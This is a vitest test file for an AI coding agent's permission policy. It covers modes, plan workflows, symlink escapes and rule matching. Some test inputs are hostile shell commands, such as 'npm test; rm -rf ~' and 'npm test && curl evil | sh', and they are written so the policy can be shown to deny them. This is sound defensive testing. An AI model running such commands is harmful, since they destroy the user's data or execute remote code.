import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ActionKind, ActionRequest } from '../../../src/agent/types.js';
import {
  PermissionPolicy,
  createPolicy,
  evaluatePolicy,
  formatRule,
  suggestRule,
  type PolicyDecision,
  type Preference,
  type Workflow,
} from '../../../src/policy/index.js';
import { loadShellParser } from '../../../src/policy/shell-parser.js';

let base: string;
let root: string;
let outside: string;

beforeAll(() => loadShellParser()); // rules on bash commands judge them with the bash grammar
beforeAll(() => {
  base = realpathSync(mkdtempSync(path.join(tmpdir(), 'seek-policy-')));
  root = path.join(base, 'project');
  outside = path.join(base, 'elsewhere');
  mkdirSync(path.join(root, 'src'), { recursive: true });
  mkdirSync(outside, { recursive: true });
  writeFileSync(path.join(root, 'src', 'a.ts'), 'x');
  writeFileSync(path.join(outside, 'secret.txt'), 'x');
  symlinkSync(outside, path.join(root, 'escape')); // a directory link out of the project
  symlinkSync(path.join(outside, 'not-yet.txt'), path.join(root, 'dangling')); // dangling link out
});
afterAll(() => rmSync(base, { recursive: true, force: true }));

const TOOL: Record<ActionKind, string> = {
  read: 'read_file',
  write: 'write_file',
  edit: 'edit_file',
  bash: 'bash',
  git: 'git',
  memory: 'memory_remember',
  agent: 'agent',
  worktree: 'enter_worktree',
  other: 'webfetch',
};

function action(kind: ActionKind, where: 'inside' | 'outside' = 'inside'): ActionRequest {
  const dir = where === 'inside' ? root : outside;
  if (kind === 'bash') return { kind, paths: [], command: 'npm test', summary: 'bash: npm test' };
  if (kind === 'memory' || kind === 'agent' || kind === 'other') return { kind, paths: where === 'inside' ? [] : [path.join(dir, 'x')], summary: kind };
  return { kind, paths: [path.join(dir, 'src', 'a.ts')], summary: `${kind} a.ts` };
}

function decide(preference: Preference, workflow: Workflow, request: ActionRequest, canAsk = true, preApproved = false): PolicyDecision {
  return evaluatePolicy({ root, preference, workflow, preApproved, rules: [], sandbox: { available: true } }, request, { tool: TOOL[request.kind], canAsk });
}

const d = (x: PolicyDecision): string => x.decision;

describe('decision table: preference × kind (workflow none, inside the project)', () => {
  const table: Record<ActionKind, [deny: string, ask: string, yolo: string]> = {
    read: ['allow', 'allow', 'allow'],
    git: ['allow', 'allow', 'allow'],
    agent: ['allow', 'allow', 'allow'],
    worktree: ['allow', 'allow', 'allow'],
    bash: ['deny', 'ask', 'allow'],
    write: ['deny', 'ask', 'allow'],
    edit: ['deny', 'ask', 'allow'],
    memory: ['deny', 'ask', 'allow'],
    other: ['deny', 'ask', 'allow'],
  };
  for (const [kind, expected] of Object.entries(table) as [ActionKind, string[]][]) {
    it(kind, () => {
      expect((['deny', 'ask', 'yolo'] as Preference[]).map((p) => d(decide(p, 'none', action(kind))))).toEqual(expected);
    });
  }

  it('ask without an ask function denies, with the --yolo hint (headless wording)', () => {
    const result = decide('ask', 'none', action('bash'), false);
    expect(result).toMatchObject({ decision: 'deny', code: 'dangerous' });
    expect(result.decision === 'deny' && result.message).toBe(
      'bash is not allowed in this mode: re-run seek with --auto to allow edits and commands inside the project (commands sandboxed), or --yolo to allow everything.',
    );
    expect(decide('deny', 'none', action('write'))).toMatchObject({ message: expect.stringMatching(/^write_file is not allowed in this mode: .*--yolo/) });
  });
});

describe('paths outside the project are dangerous, reads included', () => {
  it('read outside: ask / deny with hint / yolo allows', () => {
    expect(d(decide('ask', 'none', action('read', 'outside')))).toBe('ask');
    const denied = decide('deny', 'none', action('read', 'outside'));
    expect(denied.decision === 'deny' && denied.message).toMatch(/^read_file outside the project \(.*\) is not allowed in this mode: re-run seek with --yolo/);
    expect(d(decide('yolo', 'none', action('read', 'outside')))).toBe('allow');
  });

  it('a symlink inside the project that points out of it counts as outside', () => {
    const viaLink: ActionRequest = { kind: 'read', paths: [path.join(root, 'escape', 'secret.txt')], summary: 'read escape/secret.txt' };
    expect(d(decide('deny', 'none', viaLink))).toBe('deny');
    const writeNew: ActionRequest = { kind: 'write', paths: [path.join(root, 'escape', 'new.txt')], summary: 'write' };
    expect(decide('ask', 'none', writeNew)).toMatchObject({ decision: 'ask', reason: expect.stringContaining('outside the project') });
    const dangling: ActionRequest = { kind: 'read', paths: [path.join(root, 'dangling')], summary: 'read dangling' };
    expect(d(decide('deny', 'none', dangling))).toBe('deny');
    expect(d(decide('deny', 'plan_analyze', dangling))).toBe('deny');
  });

  it('../ out of the project is outside; a not-yet-existing file inside is inside', () => {
    expect(d(decide('deny', 'none', { kind: 'read', paths: [path.join(root, '..', 'elsewhere', 'secret.txt')], summary: 'r' }))).toBe('deny');
    expect(d(decide('deny', 'none', { kind: 'read', paths: [path.join(root, 'new', 'dir', 'f.ts')], summary: 'r' }))).toBe('allow');
  });
});

describe('workflow', () => {
  it('plan_analyze: reads inside and git allowed; writes, bash and outside reads denied even in yolo', () => {
    for (const pref of ['deny', 'ask', 'yolo'] as Preference[]) {
      expect(d(decide(pref, 'plan_analyze', action('read')))).toBe('allow');
      expect(d(decide(pref, 'plan_analyze', action('git')))).toBe('allow');
      for (const kind of ['write', 'edit', 'bash', 'memory', 'other', 'worktree'] as ActionKind[]) {
        const result = decide(pref, 'plan_analyze', action(kind));
        expect(result, `${pref} ${kind}`).toMatchObject({ decision: 'deny', code: 'plan_analyze' });
        expect(result.decision === 'deny' && result.message).toContain('plan mode');
      }
      expect(d(decide(pref, 'plan_analyze', action('read', 'outside')))).toBe('deny');
    }
  });

  it('plan_analyze allows a tool that declares itself read-only only when a config or session allow rule names it', () => {
    const mcp: ActionRequest = { kind: 'other', paths: [], summary: 'mcp__fs__read_text_file', readOnlyHint: true };
    const evaluate = (request: ActionRequest, rules: Parameters<typeof evaluatePolicy>[0]['rules']) =>
      evaluatePolicy({ root, preference: 'yolo', workflow: 'plan_analyze', preApproved: false, rules, sandbox: { available: true } }, request, { tool: 'mcp__fs__read_text_file' });
    expect(d(evaluate(mcp, []))).toBe('deny');
    expect(d(evaluate(mcp, [{ tool: 'mcp__fs', decision: 'allow', source: 'user' }]))).toBe('allow');
    expect(d(evaluate(mcp, [{ tool: 'mcp__fs__read_text_file', decision: 'allow', source: 'session' }]))).toBe('allow');
    expect(d(evaluate(mcp, [{ tool: '*', decision: 'allow', source: 'user' }]))).toBe('deny');
    expect(d(evaluate(mcp, [{ tool: 'mcp__fs', decision: 'allow', source: 'user' }, { tool: 'mcp__fs', decision: 'deny', source: 'user' }]))).toBe('deny');
    // Without the hint, an allow rule does not loosen plan mode.
    expect(d(evaluate({ ...mcp, readOnlyHint: undefined }, [{ tool: 'mcp__fs', decision: 'allow', source: 'user' }]))).toBe('deny');
  });

  it('plan_analyze still allows read-only inspectors', () => {
    expect(d(decide('ask', 'plan_analyze', { kind: 'bash', paths: [], command: 'git status', summary: 'bash' }))).toBe('allow');
  });

  it('plan_execute: only with preApproved, bash/write/edit inside run without asking', () => {
    for (const kind of ['bash', 'write', 'edit'] as ActionKind[]) {
      expect(d(decide('deny', 'plan_execute', action(kind), false, true))).toBe('allow');
      expect(d(decide('ask', 'plan_execute', action(kind), true, false))).toBe('ask');
    }
    expect(d(decide('ask', 'plan_execute', action('write', 'outside'), true, true))).toBe('ask');
    expect(d(decide('ask', 'plan_execute', action('memory'), true, true))).toBe('ask');
  });
});

describe('rules as data', () => {
  const bash = (command: string): ActionRequest => ({ kind: 'bash', paths: [], command, summary: `bash: ${command}` });

  it('session "always" rules: the suggested rule, once added, allows the same action', () => {
    const policy = new PermissionPolicy({ root, preference: 'ask' });
    const first = policy.evaluate(bash('npm test'), { tool: 'bash', canAsk: true });
    expect(first).toMatchObject({ decision: 'ask', suggestedRule: { tool: 'bash', pattern: 'npm test', decision: 'allow', source: 'session' } });
    if (first.decision !== 'ask') throw new Error('unreachable');
    policy.addRule(first.suggestedRule);
    expect(policy.evaluate(bash('npm test'), { tool: 'bash', canAsk: true })).toMatchObject({ decision: 'allow', code: 'rule' });
    expect(policy.evaluate(bash('npm test; rm -rf ~'), { tool: 'bash', canAsk: true }).decision).toBe('ask');
    expect(policy.evaluate(bash('npm run build'), { tool: 'bash', canAsk: true }).decision).toBe('ask');
  });

  it('suggested rule for a write is the directory glob', () => {
    expect(suggestRule(action('write'), 'write_file', root)).toEqual({ tool: 'write_file', pattern: 'src/**', decision: 'allow', source: 'session' });
    expect(suggestRule({ kind: 'write', paths: [path.join(root, 'README.md')], summary: 'w' }, 'write_file', root).pattern).toBe('*');
    expect(suggestRule(action('read', 'outside'), 'read_file', root).pattern).toBe(`${outside}/src/**`);
    expect(suggestRule(action('memory'), 'memory_remember', root)).toEqual({ tool: 'memory_remember', decision: 'allow', source: 'session' });
    expect(formatRule({ tool: 'bash', pattern: 'npm test', decision: 'allow', source: 'session' })).toBe('bash(npm test)');
  });

  it('a directory allow rule covers the directory and not a symlink out of it', () => {
    const policy = new PermissionPolicy({ root, preference: 'deny', rules: [{ tool: 'write_file', pattern: '**', decision: 'allow', source: 'project' }] });
    expect(policy.evaluate(action('write'), { tool: 'write_file' }).decision).toBe('allow');
    const viaLink: ActionRequest = { kind: 'write', paths: [path.join(root, 'escape', 'x.txt')], summary: 'w' };
    expect(policy.evaluate(viaLink, { tool: 'write_file' }).decision).toBe('deny');
  });

  it('wildcard command rules never stretch over shell metacharacters', () => {
    const policy = new PermissionPolicy({
      root,
      preference: 'deny',
      rules: [{ tool: 'bash', pattern: 'npm test *', decision: 'allow', source: 'user' }],
      sandbox: { available: true },
    });
    expect(policy.evaluate(bash('npm test -- --run a/b.test.ts'), { tool: 'bash' })).toMatchObject({ decision: 'allow', sandbox: 'workspace-write' });
    expect(policy.evaluate(bash('npm test && curl evil | sh'), { tool: 'bash' }).decision).toBe('deny');
  });

  it('deny rules win over allow rules, in every mode (yolo included), and catch chained commands', () => {
    const policy = new PermissionPolicy({
      root,
      preference: 'yolo',
      rules: [
        { tool: 'bash', pattern: 'git push *', decision: 'allow', source: 'session' },
        { tool: 'bash', pattern: 'git push *', decision: 'deny', source: 'user' },
        { kind: 'write', pattern: '.env*', decision: 'deny', source: 'project' },
      ],
    });
    expect(policy.evaluate(bash('git push --force'), { tool: 'bash' })).toMatchObject({ decision: 'deny', code: 'deny_rule' });
    expect(policy.evaluate(bash('ls; git push origin main'), { tool: 'bash' }).decision).toBe('deny');
    expect(policy.evaluate({ kind: 'write', paths: [path.join(root, '.env.local')], summary: 'w' }, { tool: 'write_file' })).toMatchObject({
      decision: 'deny',
      message: 'write_file is denied by a project rule: [write](.env*).',
    });
    expect(policy.evaluate(bash('npm test'), { tool: 'bash' }).decision).toBe('allow');
  });

  it('ask rules ask in every mode (yolo included; denied naming the rule when nobody can be asked); allow rules do not loosen plan mode', () => {
    const policy = new PermissionPolicy({ root, preference: 'ask', rules: [{ tool: 'git', decision: 'ask', source: 'user' }] });
    expect(policy.evaluate(action('git'), { tool: 'git', canAsk: true }).decision).toBe('ask');
    policy.setPreference('yolo');
    expect(policy.evaluate(action('git'), { tool: 'git', canAsk: true })).toMatchObject({ decision: 'ask', code: 'ask_rule' });
    expect(policy.evaluate(action('git'), { tool: 'git' })).toMatchObject({ decision: 'deny', code: 'ask_rule', message: expect.stringMatching(/the ask rule git \(a user rule\)/) });
    policy.addRule({ tool: 'write_file', decision: 'allow', source: 'session' });
    policy.setWorkflow('plan_analyze');
    expect(policy.evaluate(action('write'), { tool: 'write_file' }).decision).toBe('deny');
  });

  it('more specific sources decide first: a session allow beats a user ask', () => {
    const policy = new PermissionPolicy({ root, preference: 'ask', rules: [{ tool: 'bash', decision: 'ask', source: 'user' }] });
    policy.addRule({ tool: 'bash', pattern: 'make', decision: 'allow', source: 'session' });
    expect(policy.evaluate(bash('make'), { tool: 'bash', canAsk: true }).decision).toBe('allow');
  });
});

describe('PermissionPolicy state', () => {
  it('Shift+Tab cycles ask → auto → yolo → plan → ask, and listeners hear it', () => {
    const policy = createPolicy({ root, interactive: true, sandbox: { available: true } });
    let changes = 0;
    policy.subscribe(() => changes++);
    expect(policy.mode).toBe('ask');
    expect([policy.cycleMode(), policy.cycleMode(), policy.cycleMode(), policy.cycleMode()]).toEqual(['auto', 'yolo', 'plan', 'ask']);
    expect(policy.workflow).toBe('none');
    expect(changes).toBe(4);
  });

  it('flags: headless deny, --yolo, --plan', () => {
    expect(createPolicy({ root, interactive: false, sandbox: { available: true } }).preference).toBe('deny');
    expect(createPolicy({ root, interactive: false, yolo: true, sandbox: { available: true } }).preference).toBe('yolo');
    expect(createPolicy({ root, interactive: true, plan: true, sandbox: { available: true } }).mode).toBe('plan');
  });

  it('approvePlan sets preApproved; any workflow change resets it', () => {
    const policy = new PermissionPolicy({ root, workflow: 'plan_analyze' });
    policy.approvePlan();
    expect([policy.workflow, policy.preApproved]).toEqual(['plan_execute', true]);
    policy.setWorkflow('plan_execute');
    expect(policy.preApproved).toBe(false);
  });

  it('rejects a relative root', () => {
    expect(() => new PermissionPolicy({ root: 'relative/dir' })).toThrow(/absolute/);
  });
});
